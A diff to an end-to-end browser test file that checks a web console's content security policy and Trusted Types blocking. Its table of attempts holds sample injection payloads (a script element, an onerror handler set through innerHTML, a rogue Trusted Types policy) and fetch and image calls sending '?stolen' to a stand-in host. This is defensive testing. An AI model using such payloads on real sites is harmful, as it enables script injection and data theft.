@@ -5,10 +5,10 @@ import { expect, test } from '#e2e/support/test.ts'
 
 /* The content security policy and Trusted Types, as the browser enforces them on the built console. */
 
-/** What an attacker who could write into the page would try; each tells whether it ran. */
+/** The attempts of an attacker who can write into the page; each one reports whether it ran. */
 const ATTEMPTS: Record<string, { reported: string; attempt: () => unknown }> = {
   'a script element': {
-    reported: 'CSP: require-trusted-types-for kept out trusted-types-sink',
+    reported: 'CSP: require-trusted-types-for blocked trusted-types-sink',
     attempt: () => {
       const script = document.createElement('script')
       script.append('document.title = "run"')
@@ -16,13 +16,13 @@ const ATTEMPTS: Record<string, { reported: string; attempt: () => unknown }> = {
     },
   },
   'a handler in markup': {
-    reported: 'CSP: require-trusted-types-for kept out trusted-types-sink',
+    reported: 'CSP: require-trusted-types-for blocked trusted-types-sink',
     attempt: () => {
       document.body.innerHTML = '<img src="x:" onerror="document.title = `run`">'
     },
   },
-  'a Trusted Types policy of its own': {
-    reported: 'CSP: trusted-types kept out trusted-types-policy',
+  'a new Trusted Types policy': {
+    reported: 'CSP: trusted-types blocked trusted-types-policy',
     attempt: () => {
       const { trustedTypes } = globalThis as unknown as {
         trustedTypes: { createPolicy: (name: string, rules: object) => unknown }
@@ -30,12 +30,12 @@ const ATTEMPTS: Record<string, { reported: string; attempt: () => unknown }> = {
       trustedTypes.createPolicy('mine', { createHTML: (text: string) => text })
     },
   },
-  'a request elsewhere': {
-    reported: 'CSP: connect-src kept out https://elsewhere.invalid',
+  'a request to another origin': {
+    reported: 'CSP: connect-src blocked https://elsewhere.invalid',
     attempt: () => fetch('https://elsewhere.invalid/?stolen'),
   },
-  'a picture from elsewhere': {
-    reported: 'CSP: img-src kept out https://elsewhere.invalid',
+  'an image of another origin': {
+    reported: 'CSP: img-src blocked https://elsewhere.invalid',
     attempt: () => {
       const picture = document.createElement('img')
       picture.src = 'https://elsewhere.invalid/?stolen'
@@ -53,10 +53,10 @@ const violationsOf = (page: Page) => {
 }
 
 for (const [name, { reported, attempt }] of Object.entries(ATTEMPTS)) {
-  test.describe(name, () => {
+  test.describe(name, { tag: name === 'a script element' ? [] : '@long' }, () => {
     test.use({ quietAbout: 'violations' })
 
-    test('is kept out, and would fail any journey @core', async ({ page, served, problems }) => {
+    test('is blocked, and would fail any journey @core', async ({ page, served, problems }) => {
       const violations = violationsOf(page)
       await visit(page, historyPath(environmentOf(served, 'single')))
       await expect(entries(page)).toHaveCount(1)
